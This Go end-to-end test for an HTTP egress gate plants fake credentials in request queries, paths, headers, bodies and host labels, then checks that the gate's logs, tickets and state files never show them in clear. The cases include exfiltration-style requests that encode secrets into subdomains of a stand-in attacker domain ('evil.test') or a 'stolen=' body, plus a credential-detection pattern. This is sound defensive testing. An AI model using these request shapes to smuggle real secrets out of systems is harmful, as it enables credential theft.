package e2e

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/lockhttp/lockhttp/internal/gate"
	"github.com/lockhttp/lockhttp/internal/hub"
)

// clearPolicy: origin.test is trusted for reads and frees POSTs under /free/; POSTs under /ask/
// ask, to origin.test and to hosts the planted credentials belong to (so that the detector lets
// them through to a ticket). %d is the origin's port.
const clearPolicy = `version = 1
trusted = ["origin.test", "api.github.com"]
splice = ["*.splice.test"]

[[rule]]
name = "free-writes"
hosts = ["origin.test"]
methods = ["POST"]
paths = ["/free/**"]
verdict = "free"

[[rule]]
name = "ask-writes"
hosts = ["origin.test", "api.github.com", "s3.amazonaws.com", "corp.test"]
methods = ["POST"]
paths = ["/ask/**"]
verdict = "ask"

[[secret]]
name = "corp"
pattern = "corp_[0-9a-f]{32}"
hosts = ["corp.test"]

[floor]
allow_cidrs = ["127.0.0.1/32"]
allow_ports = [443, %d]

[floor.hosts]
"origin.test" = "127.0.0.1"
"api.github.com" = "127.0.0.1"
"s3.amazonaws.com" = "127.0.0.1"
"corp.test" = "127.0.0.1"

[sources]
local = ["127.0.0.0/8"]

[settings]
hold = "1s"
`

// The kinds of credential a case plants; each case gets a value of its own (plantValue).
const (
	ghTok  = "github"
	awsKey = "aws"
	antKey = "anthropic"
	corp   = "custom:corp"
	inj    = "injected"
)

// clearCase is one request that plants a credential. line is the request line ({S} the
// credential, {S64} its base64 as a Basic user name, {P} the origin's port; " HTTP/1.1" is added
// unless the line has three fields); head is header lines or none; body is sent with a
// Content-Length. Host (from an absolute or CONNECT target, unless head has one), X-Case (to
// find the ticket), Content-Length and Connection: close are added.
// code is the X-LockHTTP-Code the gate answers: "" for a request that goes out (the origin must
// then get the credential: the search is shown to find it), "*" where the gate may decide either
// way (a credential in a host name) and only the leaks are checked.
type clearCase struct {
	name, kind, line, head, body, code string
}

// shownNote is sent with every case in a header whose name says "session": a ticket must show
// it, as a name never hides a value.
const shownNote = "shown-to-the-human"

var clearCases = []clearCase{
	{"query", ghTok, "GET http://origin.test:{P}/q?token={S}", "", "", "E_SECRET_EGRESS"},
	{"query, no sensitive name", awsKey, "GET http://origin.test:{P}/q?id={S}", "", "", "E_SECRET_EGRESS"},
	{"query to its own host", ghTok, "GET http://api.github.com:{P}/repos?access_token={S}", "", "", ""},
	{"path segment", antKey, "GET http://origin.test:{P}/p/{S}/x", "", "", "E_SECRET_EGRESS"},
	{"path segment", corp, "GET http://origin.test:{P}/p/{S}", "", "", "E_SECRET_EGRESS"},
	{"header", ghTok, "GET http://origin.test:{P}/h", "X-Note: {S}", "", "E_SECRET_EGRESS"},
	{"header", inj, "GET http://origin.test:{P}/h", "X-Forward: {S}", "", "E_SECRET_EGRESS"},
	{"header to its own host", ghTok, "GET http://api.github.com:{P}/user", "Authorization: token {S}", "", ""},
	{"json body", awsKey, "POST http://origin.test:{P}/free/j", "Content-Type: application/json", `{"k":"{S}"}`, "E_SECRET_EGRESS"},
	{"json body", corp, "POST http://origin.test:{P}/free/j", "Content-Type: application/json", `{"k":"{S}"}`, "E_SECRET_EGRESS"},
	{"form body", antKey, "POST http://origin.test:{P}/free/f", "Content-Type: application/x-www-form-urlencoded", "k={S}", "E_SECRET_EGRESS"},
	{"injected value in a body", inj, "POST http://origin.test:{P}/free/b", "", "stolen={S}", "E_SECRET_EGRESS"},
	{"userinfo", ghTok, "GET http://x:{S}@origin.test:{P}/u", "", "", "E_FLOOR"},
	{"Proxy-Authorization user name", ghTok, "GET http://origin.test:{P}/pa", "Proxy-Authorization: Basic {S64}", "", ""},
	{"host label", ghTok, "GET http://{S}.evil.test:{P}/", "", "", "E_SECRET_EGRESS"},
	{"host label", awsKey, "GET http://{S}.evil.test:{P}/", "", "", "E_SECRET_EGRESS"},
	{"host label, on a port the floor refuses", corp, "GET http://{S}.evil.test/", "", "", "E_SECRET_EGRESS"},
	{"CONNECT target label", ghTok, "CONNECT {S}.example.test:443", "", "", "E_SECRET_EGRESS"},
	{"CONNECT target label", corp, "CONNECT {S}.example.test:443", "", "", "E_SECRET_EGRESS"},
	{"CONNECT target label, decided at the domain", awsKey, "CONNECT {S}.splice.test:443", "", "", "E_SECRET_EGRESS"},
	{"framing: header line without a colon", ghTok, "GET http://origin.test:{P}/m", "Authorization Bearer {S}", "", "E_FLOOR"},
	{"framing: header name with a bad byte", awsKey, "GET http://origin.test:{P}/m", "X-{S}@: 1", "", "E_FLOOR"},
	{"framing: obs-fold", inj, "GET http://origin.test:{P}/m", "X-A: 1\r\n {S}", "", "E_FLOOR"},
	{"framing: target with a fragment", corp, "GET http://origin.test:{P}/m?t={S}#f", "", "", "E_FLOOR"},
	{"framing: protocol version", ghTok, "GET http://origin.test:{P}/m {S}", "", "", "E_FLOOR"},
	{"framing: Host mismatch", ghTok, "GET http://origin.test:{P}/m", "Host: {S}.evil.test", "", "E_FLOOR"},
	{"ticket: Authorization", ghTok, "POST http://api.github.com:{P}/ask/a", "Authorization: token {S}", "x", "E_PENDING"},
	{"ticket: X-Session-Data", corp, "POST http://corp.test:{P}/ask/s", "X-Session-Data: {S}", "x", "E_PENDING"},
	{"ticket: Cookie", corp, "POST http://corp.test:{P}/ask/c", "Cookie: sid={S}", "x", "E_PENDING"},
	{"ticket: query", awsKey, "POST http://s3.amazonaws.com:{P}/ask/q?X-Amz-Credential={S}%2F20240101", "", "x", "E_PENDING"},
	{"ticket: path", corp, "POST http://corp.test:{P}/ask/{S}", "", "x", "E_PENDING"},
	{"ticket: json body", ghTok, "POST http://api.github.com:{P}/ask/j", "Content-Type: application/json", `{"token":"{S}"}`, "E_PENDING"},
}

// plantValue is a credential of kind for case i, unlike any other case's: its body comes from a
// hash, so that any 12 bytes of it name the case.
func plantValue(kind string, i int) string {
	sum := sha256.Sum256([]byte(fmt.Sprintf("%s/%d", kind, i)))
	const b62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	const upnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	pick := func(alphabet string, n int) string {
		var b strings.Builder
		for j := 0; j < n; j++ {
			b.WriteByte(alphabet[int(sum[j%len(sum)]^byte(j/len(sum)*31))%len(alphabet)])
		}
		return b.String()
	}
	switch kind {
	case ghTok:
		return "ghp_" + pick(b62, 36)
	case awsKey:
		return "AKIA" + pick(upnum, 16)
	case antKey:
		return "sk-ant-api03-aB3" + pick(b62, 90) + "AA"
	case corp:
		return fmt.Sprintf("corp_%x", sum[:16])
	case inj:
		return "inj-" + pick(b62, 24)
	}
	panic("unknown kind " + kind)
}

// raw renders the case's request.
func (c clearCase) raw(i int, secret string, port int) string {
	fill := func(s string) string {
		return strings.NewReplacer("{S64}", base64.StdEncoding.EncodeToString([]byte(secret+":pw")),
			"{S}", secret, "{P}", fmt.Sprint(port)).Replace(s)
	}
	line := fill(c.line)
	if len(strings.Fields(line)) < 3 {
		line += " HTTP/1.1"
	}
	var b strings.Builder
	b.WriteString(line + "\r\n")
	if f := strings.Fields(line); len(f) >= 2 && !strings.HasPrefix(c.head, "Host:") {
		target := f[1]
		if rest, ok := strings.CutPrefix(target, "http://"); ok {
			target, _, _ = strings.Cut(rest, "/")
			if i := strings.LastIndex(target, "@"); i >= 0 {
				target = target[i+1:]
			}
		}
		b.WriteString("Host: " + target + "\r\n")
	}
	if c.head != "" {
		b.WriteString(fill(c.head) + "\r\n")
	}
	fmt.Fprintf(&b, "X-Case: %d\r\nX-Session-Note: %s\r\n", i, shownNote)
	if c.body != "" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(fill(c.body)))
	}
	b.WriteString("Connection: close\r\n\r\n" + fill(c.body))
	return b.String()
}

// planted is a case's credential, and where to report it.
type planted struct {
	what  string // "case 3 (header, github)"
	value string
}

// cover marks the bytes of s that show the credential, whole or any 12 bytes of it, in any case
// (a host name is lowered, and a cut credential is still a leak); nil when none do.
func (p planted) cover(s string) []bool {
	ls, lv := strings.ToLower(s), strings.ToLower(p.value)
	var c []bool
	for j := 0; j+12 <= len(lv); j++ {
		w := lv[j : j+12]
		for at := 0; ; at++ {
			i := strings.Index(ls[at:], w)
			if i < 0 {
				break
			}
			if c == nil {
				c = make([]bool, len(s))
			}
			at += i
			for k := at; k < at+12; k++ {
				c[k] = true
			}
		}
	}
	return c
}

// in reports whether s shows the credential.
func (p planted) in(s string) bool { return p.cover(s) != nil }

// redact replaces what shows the credential in s with "<planted>", for a failure message.
func (p planted) redact(s string) string {
	c := p.cover(s)
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch {
		case c == nil || !c[i]:
			b.WriteByte(s[i])
		case i == 0 || !c[i-1]:
			b.WriteString("<planted>")
		}
	}
	return b.String()
}

// TestSecretsNeverInClear plants credentials everywhere a request can carry them, then looks for
// each one in everything the stack wrote or answered: the audit, lox's output, every file under
// the state directory, the answers, the tickets.
func TestSecretsNeverInClear(t *testing.T) {
	// The origin answers without repeating the request; it records what reached it.
	rec := &originRecorder{}
	o := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.ServeHTTP(httptest.NewRecorder(), r)
		w.Write([]byte("ok"))
	}))
	t.Cleanup(o.Close)
	port := o.Listener.Addr().(*net.TCPAddr).Port

	plants := make([]planted, len(clearCases))
	var injected strings.Builder
	injected.WriteString("version = 1\n[secrets]\n")
	for i, c := range clearCases {
		plants[i] = planted{fmt.Sprintf("case %d (%s, %s)", i, c.name, c.kind), plantValue(c.kind, i)}
		if c.kind == inj {
			fmt.Fprintf(&injected, "planted%d = %q\n", i, plants[i].value)
		}
	}
	secretsFile := filepath.Join(t.TempDir(), "gate-secrets.toml")
	if err := os.WriteFile(secretsFile, []byte(injected.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	r := startStackWith(t, fmt.Sprintf(clearPolicy, port), []string{"--secrets", secretsFile}, nil)

	// Send every case; keep each answer.
	answers := make([]string, len(clearCases))
	for i, c := range clearCases {
		answers[i] = rawExchange(t, r.up.Listen, c.raw(i, plants[i].value, port))
		code, rule := "", ""
		if resp, err := http.ReadResponse(bufioReader(answers[i]), nil); err == nil {
			code, rule = resp.Header.Get(gate.HeaderCode), resp.Header.Get(gate.HeaderRule)
			resp.Body.Close()
		}
		t.Logf("%s: %q %s %s", plants[i].what, strings.SplitN(answers[i], "\r\n", 2)[0], code, rule)
		if c.code != "*" && code != c.code {
			t.Errorf("%s: code %q, want %q (so the case does not test what it says)", plants[i].what, code, c.code)
		}
	}

	// What went out reached the origin with its credential: the search finds a planted value.
	for i, c := range clearCases {
		if c.code != "" || strings.HasPrefix(c.head, "Proxy-") { // a Proxy- header ends at the gate
			continue
		}
		seen := false
		for _, got := range rec.all() {
			if got.Header.Get("X-Case") == fmt.Sprint(i) {
				seen = plants[i].in(got.Path + fmt.Sprint(got.Header))
			}
		}
		if !seen {
			t.Errorf("%s: the origin did not get the credential", plants[i].what)
		}
	}

	// Every request has its audit record.
	deadline := time.Now().Add(10 * time.Second)
	for len(r.auditRecords()) < len(clearCases) && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if n := len(r.auditRecords()); n < len(clearCases) {
		t.Errorf("%d audit records for %d requests", n, len(clearCases))
	}

	// Gather every output.
	type output struct{ place, text string }
	var outs []output
	for i, a := range answers {
		outs = append(outs, output{fmt.Sprintf("the answer to case %d", i), a})
	}
	lox := func(args ...string) string {
		cmd := execLox(t, append(args, "--state", r.state)...)
		var b bytes.Buffer
		cmd.Stdout, cmd.Stderr = &b, &b
		if err := cmd.Run(); err != nil {
			t.Errorf("lox %s: %v\n%s", strings.Join(args, " "), err, b.String())
		}
		return b.String()
	}
	ticketsJSON := lox("tickets", "--json")
	outs = append(outs, output{"lox tickets --json", ticketsJSON}, output{"lox tickets", lox("tickets")})
	var tickets []hub.Ticket
	if err := json.Unmarshal([]byte(ticketsJSON), &tickets); err != nil {
		t.Errorf("lox tickets --json: %v", err)
	}
	for i, c := range clearCases {
		if c.code != "E_PENDING" || c.line[:4] == "CONN" {
			continue
		}
		switch tk, ok := ticketOf(tickets, i); {
		case !ok:
			t.Errorf("%s: no ticket", plants[i].what)
		case !slices.Contains(tk.Headers, hub.Header{Name: "X-Session-Note", Value: shownNote}):
			t.Errorf("%s: the ticket hides X-Session-Note: %+v", plants[i].what, tk.Headers)
		}
	}
	files := map[string]bool{}
	for _, dir := range []string{r.state, r.up.AuditDir, r.up.ConsoleAudit, r.up.Logs} {
		if dir == "" {
			continue
		}
		filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				files[p] = true
			}
			return nil
		})
	}
	names := make([]string, 0, len(files))
	for p := range files {
		names = append(names, p)
	}
	sort.Strings(names)
	for _, p := range names {
		data, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		rel, err := filepath.Rel(r.state, p)
		if err != nil || strings.HasPrefix(rel, "..") {
			rel = p
		}
		outs = append(outs, output{rel, string(data)})
	}
	// Stop the stack first, so that lox's output is complete.
	r.stop()
	outs = append(outs, output{"lox run's output", r.out.String()})

	var leaks []string
	for _, out := range outs {
		for _, p := range plants {
			for _, w := range where(out.text, p) {
				leaks = append(leaks, fmt.Sprintf("%s: %s: %s", p.what, out.place, w))
			}
		}
	}
	sort.Strings(leaks)
	for _, l := range leaks {
		t.Error(l)
	}
	if len(leaks) > 0 {
		t.Logf("%d places show a planted credential in clear", len(leaks))
	}
}

// ticketOf returns the ticket of case i.
func ticketOf(ts []hub.Ticket, i int) (hub.Ticket, bool) {
	for _, tk := range ts {
		if slices.Contains(tk.Headers, hub.Header{Name: "X-Case", Value: fmt.Sprint(i)}) {
			return tk, true
		}
	}
	return hub.Ticket{}, false
}

// where names the places of text that show p: the JSON field of a JSON document or of a JSON
// line (with the record's id), else the line and the key=value field of a log line, with the
// credential itself replaced by <planted>.
func where(text string, p planted) []string {
	if !p.in(text) {
		return nil
	}
	var out []string
	var doc any
	if json.Unmarshal([]byte(text), &doc) == nil {
		for _, f := range jsonFields(doc, "", p) {
			out = append(out, "field "+f)
		}
		if len(out) > 0 {
			return out
		}
	}
	for n, line := range strings.Split(text, "\n") {
		c := p.cover(line)
		if c == nil {
			continue
		}
		i := slices.Index(c, true)
		var rec map[string]any
		if json.Unmarshal([]byte(line), &rec) == nil {
			id, _ := rec["id"].(string)
			for _, f := range jsonFields(rec, "", p) {
				out = append(out, fmt.Sprintf("line %d (id %s) field %s", n+1, id, f))
			}
			continue
		}
		key := "?"
		if k := strings.LastIndex(line[:i], "="); k >= 0 {
			s := strings.LastIndexAny(line[:k], " \t") + 1
			key = line[s:k]
		}
		red := p.redact(line)
		at := strings.Index(red, "<planted>")
		lo, hi := max(0, at-40), min(len(red), at+60)
		excerpt := strings.ToValidUTF8(red[lo:hi], "?")
		out = append(out, fmt.Sprintf("line %d, key %s: …%q…", n+1, key, excerpt))
	}
	return out
}

// jsonFields returns the paths of the fields of v (keys or string values) that show p.
func jsonFields(v any, path string, p planted) []string {
	var out []string
	switch x := v.(type) {
	case map[string]any:
		keys := make([]string, 0, len(x))
		for k := range x {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			if p.in(k) {
				out = append(out, path+"."+"<key>")
			}
			out = append(out, jsonFields(x[k], path+"."+k, p)...)
		}
	case []any:
		for i, e := range x {
			out = append(out, jsonFields(e, fmt.Sprintf("%s[%d]", path, i), p)...)
		}
	case string:
		if p.in(x) {
			out = append(out, strings.TrimPrefix(path, "."))
		}
	}
	return out
}
